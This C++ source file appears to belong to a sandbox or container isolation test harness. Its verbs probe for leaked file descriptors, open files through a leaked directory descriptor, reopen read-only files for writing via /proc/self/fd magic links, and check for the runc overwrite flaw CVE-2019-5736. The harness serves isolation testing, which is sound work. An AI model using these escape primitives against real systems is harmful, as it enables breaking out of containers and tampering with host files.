// Descriptors and /proc links that lead where no path does.
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdlib>

#include "payload.h"

namespace payload {
namespace {

/// Succeeds, with the list, if any descriptor above 2 is open.
int listDescriptors(const Arguments&) {
  std::string list;
  for (int fd = 3; fd < 4096; ++fd) {
    if (fcntl(fd, F_GETFD) >= 0) list += (list.empty() ? "" : " ") + std::to_string(fd);
  }
  return list.empty() ? refused("fcntl", EBADF) : done(list);
}

/// Opens PATH below a directory that the caller may have left open.
int openThrough(const Arguments& arguments) {
  const int directory = std::atoi(arguments[0].c_str());
  const int fd = openat(directory, arguments[1].c_str(), O_RDONLY | O_CLOEXEC);
  if (fd < 0) return refused("openat");
  char text[256] = {};
  const ssize_t count = read(fd, text, sizeof(text) - 1);
  if (count < 0) return refused("read");
  return done(std::string(text, static_cast<std::size_t>(count)).substr(0, std::string(text).find('\n')));
}

/// Reopens a file that was passed read-only for writing through its magic link; then writes to it.
int reopenForWriting(const Arguments& arguments) {
  const std::string path = "/proc/self/fd/" + arguments[0];
  struct stat status{};
  if (stat(path.c_str(), &status) == 0 && !S_ISREG(status.st_mode)) return refused("it is not a file", EINVAL);
  const int fd = open(path.c_str(), O_WRONLY | O_CLOEXEC);
  if (fd < 0) return refused("open");
  return report("write", write(fd, "overwritten", 11));
}

/// The working directory according to the kernel: "(unreachable)" marks one that is outside.
int workingDirectory(const Arguments&) {
  char path[4096] = {};
  if (getcwd(path, sizeof(path)) == nullptr) return refused("getcwd");
  return done(path);
}

/// CVE-2019-5736: keeps the program behind PATH open until it no longer runs, then opens it for writing. Writes
/// nothing: that the open succeeds is proof enough.
int overwriteProgram(const Arguments& arguments) {
  const int held = open(arguments[0].c_str(), O_PATH | O_CLOEXEC);
  if (held < 0) return refused("open");
  const std::string again = "/proc/self/fd/" + std::to_string(held);
  for (int round = 0; round < 50; ++round) {
    if (open(again.c_str(), O_WRONLY | O_CLOEXEC) >= 0) return done();
    if (errno == ETXTBSY) return done("only because it is running");
    pauseFor(1);
  }
  return refused("open");
}

constexpr Verb kVerbs[] = {
    {"list-descriptors", "", 0, listDescriptors},
    {"open-through", "DESCRIPTOR PATH", 2, openThrough},
    {"reopen-for-writing", "DESCRIPTOR", 1, reopenForWriting},
    {"working-directory", "", 0, workingDirectory},
    {"overwrite-program", "PATH", 1, overwriteProgram},
};

}  // namespace

std::span<const Verb> descriptorVerbs() { return kVerbs; }

}  // namespace payload
